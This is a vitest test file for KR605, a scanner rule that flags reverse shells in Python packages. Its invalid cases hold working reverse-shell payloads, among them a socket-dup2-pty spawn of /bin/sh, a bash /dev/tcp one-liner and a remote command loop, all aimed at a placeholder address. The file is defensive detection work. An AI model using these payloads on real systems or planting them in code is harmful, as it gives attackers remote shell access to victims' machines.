import { describe, it } from 'vitest';
import { testRule } from '../../helpers/rule-tester.js';

/**
 * The malicious-package indicator rules one by one, on malicious-style and benign
 * snippets (whole packages are in test/malicious/packages.test.ts).
 */


describe("malicious-package indicators", () => {
  it('KR605 reverse-shell', () =>
    testRule('KR605', {
      valid: [
        'import socket\ndef up(h, p):\n    with socket.socket() as s:\n        return s.connect_ex((h, p)) == 0',
        'import socket, subprocess\ns = socket.create_connection(A)\nsubprocess.run(["uptime"])',
      ],
      invalid: [
        { code: 'import os, pty, socket\ns = socket.socket()\ns.connect(("203.0.113.9", 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\npty.spawn("/bin/sh")', errors: [{ line: 6, column: 1, message: 'Reverse shell: a shell whose standard streams were redirected to a socket is run at import time.' }], severity: 'critical' },
        { code: 'import subprocess\nsubprocess.call("bash -i >& /dev/tcp/203.0.113.9/9001 0>&1", shell=True)', lines: [2] },
        { code: 'import socket, subprocess\nc = socket.create_connection(A)\nwhile True:\n    d = c.recv(1024)\n    cmd = d.decode()\n    c.sendall(subprocess.check_output(cmd, shell=True))', lines: [6] },
        { code: 'import socket, subprocess\ns = socket.socket()\ns.connect(A)\nsubprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno())', lines: [4] },
      ],
    }));
});
